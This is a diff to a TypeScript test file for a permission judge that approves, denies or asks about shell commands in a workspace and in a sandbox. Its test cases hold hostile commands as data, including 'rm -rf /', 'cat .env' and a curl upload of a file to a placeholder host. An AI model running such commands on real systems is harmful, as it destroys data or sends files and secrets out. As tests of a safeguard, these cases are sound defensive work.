@@ -15,7 +15,9 @@ import {
 } from '@bullpen/core';
 import { commandJudge } from './judge-command.js';
 
-const judgeCommand = commandJudge('/usr/local/bin:/usr/bin:/bin', false);
+const PATH = '/usr/local/bin:/usr/bin:/bin';
+const judgeCommand = commandJudge(PATH, false);
+const judgeBoxed = commandJudge(PATH, true);
 
 let base: string;
 let root: string;
@@ -48,11 +50,6 @@ const run = (command: string, cwd = '.'): PolicyCall => ({
 });
 const decideOn = (command: string, rules?: PolicyRules, cwd?: string) =>
   decide(run(command, cwd), policyWith(rules), context);
-const files = (more: Partial<PolicyRules['files']>): PolicyRules => ({
-  ...NO_RULES,
-  files: { ...NO_RULES.files, ...more },
-});
-
 describe('commands in a workspace', () => {
   it.each([
     ['cat README.md && ls src', '.', 'approve', 'approve.known'],
@@ -65,9 +62,9 @@ describe('commands in a workspace', () => {
     ['cat private/x', '.', 'deny', 'path.hidden'],
     ['cat way/x', '.', 'deny', 'path.hidden'],
     ['cat .env', '.', 'ask', 'dangerous.credentials'],
-    ['cp README.md .github/x', '.', 'ask', 'path.protected'],
-    ['npx jest', 'src', 'approve', 'approve.known'],
-    ['npx eslint .', '.', 'ask', 'program.not_installed'],
+    ['cp README.md src/x', '.', 'ask', 'program.unknown'],
+    ['npx jest', 'src', 'ask', 'program.unknown'],
+    ['echo x > src/x', '.', 'ask', 'path.write'],
     ['rm -rf /', '.', 'deny', 'dangerous.delete_system'],
   ])('%s in %s: %s', (line, cwd, verdict, rule) => {
     const decision = decideOn(line, NO_RULES, cwd);
@@ -76,14 +73,31 @@ describe('commands in a workspace', () => {
     if (verdict !== 'approve') expect(line).toContain(decision.part);
   });
 
-  it('protects from writing what the policy lists, and not from reading', () => {
-    const listed = files({ protect: ['db/**'] });
-    expect(decideOn('cp README.md db/new.sql')).toMatchObject({ verdict: 'approve' });
-    expect(decideOn('cp README.md db/new.sql', listed)).toMatchObject({
-      verdict: 'ask',
-      rule: 'path.protected',
+  it.each([
+    ['cp README.md .github/x', 'approve', 'approve.boxed'],
+    ['npx jest && python3 tool.py > out.txt', 'approve', 'approve.boxed'],
+    ['cat .env private/x ../x', 'approve', 'approve.boxed'],
+    ['rm -rf src', 'ask', 'dangerous.delete_work'],
+    ['git push', 'ask', 'program.publishes'],
+    ['curl -d @README.md https://x.example', 'approve', 'approve.boxed'],
+    ['rm -rf /', 'deny', 'dangerous.delete_system'],
+  ])('%s in the box: %s', (line, verdict, rule) => {
+    const inBox: DecisionContext['judgeCommand'] = (...[text, settings, cwd]) =>
+      judgeBoxed(text, settings, root, cwd);
+    expect(decide(run(line), policyWith(), { ...context, judgeCommand: inBox })).toMatchObject({
+      verdict,
+      rule,
     });
-    expect(decideOn('cat db/init.sql', listed)).toMatchObject({ verdict: 'approve' });
+  });
+
+  it('asks before data is sent where hosts are opened to the box', () => {
+    const opened: DecisionContext['judgeCommand'] = (line, settings, cwd) =>
+      judgeBoxed(line, { ...settings, openedHosts: ['x.example'] }, root, cwd);
+    const decided = decide(run('curl -d @README.md https://x.example'), policyWith(), {
+      ...context,
+      judgeCommand: opened,
+    });
+    expect(decided).toMatchObject({ verdict: 'ask', rule: 'dangerous.upload' });
   });
 
   it('lets any command run where the policy says so, catastrophes excepted', () => {
